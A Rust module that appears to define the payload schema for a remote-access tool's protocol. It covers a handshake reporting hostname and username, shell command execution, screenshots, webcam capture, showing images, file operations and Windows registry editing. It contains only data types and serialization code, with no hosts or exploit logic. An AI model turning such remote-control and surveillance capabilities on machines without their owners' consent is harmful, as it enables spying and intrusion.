//! Per-type payload schemas.
//!
//! Binary content (file bodies, captured images) travels as standard
//! base64 inside string fields.

use base64::{Engine as _, engine::general_purpose::STANDARD as BASE64};
use serde::{Deserialize, Serialize, de::DeserializeOwned};
use serde_json::Value;

use crate::envelope::{DecodeError, MessageType};

/// Handshake payload, sent as the first frame of every connection.
#[derive(Debug, Clone, PartialEq, Eq, Serialize, Deserialize)]
pub struct AuthPayload {
    pub client_id: String,
    pub hostname: String,
    pub username: String,
    pub os: String,
}

/// Run a shell command.
#[derive(Debug, Clone, PartialEq, Eq, Serialize, Deserialize)]
pub struct CommandPayload {
    pub command: String,
    #[serde(default, skip_serializing_if = "Vec::is_empty")]
    pub args: Vec<String>,
}

impl CommandPayload {
    /// Create a command without arguments.
    #[must_use]
    pub fn new(command: impl Into<String>) -> Self {
        Self {
            command: command.into(),
            args: Vec::new(),
        }
    }

    /// Set the arguments.
    #[must_use]
    pub fn args<I>(mut self, args: I) -> Self
    where
        I: IntoIterator,
        I::Item: Into<String>,
    {
        self.args = args.into_iter().map(Into::into).collect();
        self
    }
}

#[derive(Debug, Clone, PartialEq, Eq, Default, Serialize, Deserialize)]
pub struct ScreenshotPayload {
    #[serde(default)]
    pub quality: i32,
}

#[derive(Debug, Clone, PartialEq, Eq, Default, Serialize, Deserialize)]
pub struct WebcamPayload {
    #[serde(default)]
    pub duration: i32,
    #[serde(default, skip_serializing_if = "Option::is_none")]
    pub stream_url: Option<String>,
}

#[derive(Debug, Clone, PartialEq, Eq, Serialize, Deserialize)]
pub struct ShowImagePayload {
    pub image_url: String,
    #[serde(default)]
    pub duration: i32,
}

/// Outcome of a capability request.
#[derive(Debug, Clone, PartialEq, Eq, Serialize, Deserialize)]
pub struct ResponsePayload {
    pub success: bool,
    #[serde(default, skip_serializing_if = "Option::is_none")]
    pub data: Option<String>,
    #[serde(default, skip_serializing_if = "Option::is_none")]
    pub error: Option<String>,
}

impl ResponsePayload {
    /// Successful outcome carrying text data.
    #[must_use]
    pub fn ok(data: impl Into<String>) -> Self {
        Self {
            success: true,
            data: Some(data.into()),
            error: None,
        }
    }

    /// Successful outcome carrying binary data, base64 encoded.
    #[must_use]
    pub fn binary(data: &[u8]) -> Self {
        Self::ok(BASE64.encode(data))
    }

    /// Failed outcome.
    #[must_use]
    pub fn failure(error: impl Into<String>) -> Self {
        Self {
            success: false,
            data: None,
            error: Some(error.into()),
        }
    }

    /// Decode binary data from base64.
    #[must_use]
    pub fn decode_data(&self) -> Option<Vec<u8>> {
        self.data.as_ref().and_then(|d| BASE64.decode(d).ok())
    }
}

/// Protocol-level failure report.
#[derive(Debug, Clone, PartialEq, Eq, Serialize, Deserialize)]
pub struct ErrorPayload {
    pub code: String,
    pub message: String,
}

impl ErrorPayload {
    #[must_use]
    pub fn new(code: impl Into<String>, message: impl Into<String>) -> Self {
        Self {
            code: code.into(),
            message: message.into(),
        }
    }
}

/// Payload shared by the single-path file operations.
#[derive(Debug, Clone, PartialEq, Eq, Serialize, Deserialize)]
pub struct PathPayload {
    pub path: String,
}

#[derive(Debug, Clone, PartialEq, Eq, Serialize, Deserialize)]
pub struct FileWritePayload {
    pub path: String,
    /// File body, base64 encoded.
    pub content: String,
    #[serde(default, skip_serializing_if = "Option::is_none")]
    pub mode: Option<u32>,
}

impl FileWritePayload {
    /// Create a write request from raw bytes.
    #[must_use]
    pub fn new(path: impl Into<String>, content: &[u8]) -> Self {
        Self {
            path: path.into(),
            content: BASE64.encode(content),
            mode: None,
        }
    }

    /// Decode the file body.
    ///
    /// # Errors
    /// Returns error if the content is not valid base64.
    pub fn decode_content(&self) -> Result<Vec<u8>, base64::DecodeError> {
        BASE64.decode(&self.content)
    }
}

/// One entry of a `file_list` result.
#[derive(Debug, Clone, PartialEq, Eq, Serialize, Deserialize)]
pub struct FileInfo {
    pub name: String,
    pub path: String,
    pub size: i64,
    pub is_dir: bool,
    pub mod_time: i64,
    pub mode: String,
}

#[derive(Debug, Clone, PartialEq, Eq, Serialize, Deserialize)]
pub struct RegistryValuePayload {
    pub key: String,
    pub value: String,
}

#[derive(Debug, Clone, PartialEq, Eq, Serialize, Deserialize)]
pub struct RegistryWritePayload {
    pub key: String,
    pub value: String,
    pub data: String,
    pub data_type: String,
}

#[derive(Debug, Clone, PartialEq, Eq, Serialize, Deserialize)]
pub struct RegistryDeletePayload {
    pub key: String,
    #[serde(default, skip_serializing_if = "Option::is_none")]
    pub value: Option<String>,
}

#[derive(Debug, Clone, PartialEq, Eq, Serialize, Deserialize)]
pub struct RegistryKeyPayload {
    pub key: String,
}

/// One entry of a `reg_list` result.
#[derive(Debug, Clone, PartialEq, Eq, Serialize, Deserialize)]
pub struct RegistryInfo {
    pub name: String,
    #[serde(rename = "type")]
    pub kind: String,
    pub value: String,
    pub data_type: String,
}

/// Payload of an envelope, one variant per type tag.
#[derive(Debug, Clone, PartialEq, Serialize)]
#[serde(untagged)]
pub enum Payload {
    Auth(AuthPayload),
    /// Heartbeats are liveness only; their body is not interpreted.
    Heartbeat(Value),
    Command(CommandPayload),
    Screenshot(ScreenshotPayload),
    Webcam(WebcamPayload),
    ShowImage(ShowImagePayload),
    Response(ResponsePayload),
    Error(ErrorPayload),
    FileRead(PathPayload),
    FileWrite(FileWritePayload),
    FileDelete(PathPayload),
    FileList(PathPayload),
    FileDownload(PathPayload),
    RegRead(RegistryValuePayload),
    RegWrite(RegistryWritePayload),
    RegDelete(RegistryDeletePayload),
    RegList(RegistryKeyPayload),
}

fn parse_as<T: DeserializeOwned>(kind: MessageType, value: Value) -> Result<T, DecodeError> {
    // An absent payload means "all defaults" for schemas that allow it.
    let value = if value.is_null() {
        Value::Object(serde_json::Map::new())
    } else {
        value
    };
    serde_json::from_value(value).map_err(|source| DecodeError::InvalidPayload {
        kind,
        id: None,
        source,
    })
}

impl Payload {
    /// Type tag implied by this payload.
    #[must_use]
    pub const fn kind(&self) -> MessageType {
        match self {
            Self::Auth(_) => MessageType::Auth,
            Self::Heartbeat(_) => MessageType::Heartbeat,
            Self::Command(_) => MessageType::Command,
            Self::Screenshot(_) => MessageType::Screenshot,
            Self::Webcam(_) => MessageType::Webcam,
            Self::ShowImage(_) => MessageType::ShowImage,
            Self::Response(_) => MessageType::Response,
            Self::Error(_) => MessageType::Error,
            Self::FileRead(_) => MessageType::FileRead,
            Self::FileWrite(_) => MessageType::FileWrite,
            Self::FileDelete(_) => MessageType::FileDelete,
            Self::FileList(_) => MessageType::FileList,
            Self::FileDownload(_) => MessageType::FileDownload,
            Self::RegRead(_) => MessageType::RegRead,
            Self::RegWrite(_) => MessageType::RegWrite,
            Self::RegDelete(_) => MessageType::RegDelete,
            Self::RegList(_) => MessageType::RegList,
        }
    }

    /// Parse a raw payload against the schema of `kind`.
    ///
    /// # Errors
    /// Returns `InvalidPayload` if the value does not fit the schema.
    pub fn parse(kind: MessageType, value: Value) -> Result<Self, DecodeError> {
        Ok(match kind {
            MessageType::Auth => Self::Auth(parse_as(kind, value)?),
            MessageType::Heartbeat => Self::Heartbeat(value),
            MessageType::Command => Self::Command(parse_as(kind, value)?),
            MessageType::Screenshot => Self::Screenshot(parse_as(kind, value)?),
            MessageType::Webcam => Self::Webcam(parse_as(kind, value)?),
            MessageType::ShowImage => Self::ShowImage(parse_as(kind, value)?),
            MessageType::Response => Self::Response(parse_as(kind, value)?),
            MessageType::Error => Self::Error(parse_as(kind, value)?),
            MessageType::FileRead => Self::FileRead(parse_as(kind, value)?),
            MessageType::FileWrite => Self::FileWrite(parse_as(kind, value)?),
            MessageType::FileDelete => Self::FileDelete(parse_as(kind, value)?),
            MessageType::FileList => Self::FileList(parse_as(kind, value)?),
            MessageType::FileDownload => Self::FileDownload(parse_as(kind, value)?),
            MessageType::RegRead => Self::RegRead(parse_as(kind, value)?),
            MessageType::RegWrite => Self::RegWrite(parse_as(kind, value)?),
            MessageType::RegDelete => Self::RegDelete(parse_as(kind, value)?),
            MessageType::RegList => Self::RegList(parse_as(kind, value)?),
        })
    }

    /// `file_read` request.
    #[must_use]
    pub fn file_read(path: impl Into<String>) -> Self {
        Self::FileRead(PathPayload { path: path.into() })
    }

    /// `file_delete` request.
    #[must_use]
    pub fn file_delete(path: impl Into<String>) -> Self {
        Self::FileDelete(PathPayload { path: path.into() })
    }

    /// `file_list` request.
    #[must_use]
    pub fn file_list(path: impl Into<String>) -> Self {
        Self::FileList(PathPayload { path: path.into() })
    }

    /// `file_download` request.
    #[must_use]
    pub fn file_download(path: impl Into<String>) -> Self {
        Self::FileDownload(PathPayload { path: path.into() })
    }
}

impl From<AuthPayload> for Payload {
    fn from(p: AuthPayload) -> Self {
        Self::Auth(p)
    }
}

impl From<CommandPayload> for Payload {
    fn from(p: CommandPayload) -> Self {
        Self::Command(p)
    }
}

impl From<ScreenshotPayload> for Payload {
    fn from(p: ScreenshotPayload) -> Self {
        Self::Screenshot(p)
    }
}

impl From<WebcamPayload> for Payload {
    fn from(p: WebcamPayload) -> Self {
        Self::Webcam(p)
    }
}

impl From<ShowImagePayload> for Payload {
    fn from(p: ShowImagePayload) -> Self {
        Self::ShowImage(p)
    }
}

impl From<ResponsePayload> for Payload {
    fn from(p: ResponsePayload) -> Self {
        Self::Response(p)
    }
}

impl From<ErrorPayload> for Payload {
    fn from(p: ErrorPayload) -> Self {
        Self::Error(p)
    }
}

impl From<FileWritePayload> for Payload {
    fn from(p: FileWritePayload) -> Self {
        Self::FileWrite(p)
    }
}

impl From<RegistryValuePayload> for Payload {
    fn from(p: RegistryValuePayload) -> Self {
        Self::RegRead(p)
    }
}

impl From<RegistryWritePayload> for Payload {
    fn from(p: RegistryWritePayload) -> Self {
        Self::RegWrite(p)
    }
}

impl From<RegistryDeletePayload> for Payload {
    fn from(p: RegistryDeletePayload) -> Self {
        Self::RegDelete(p)
    }
}

impl From<RegistryKeyPayload> for Payload {
    fn from(p: RegistryKeyPayload) -> Self {
        Self::RegList(p)
    }
}
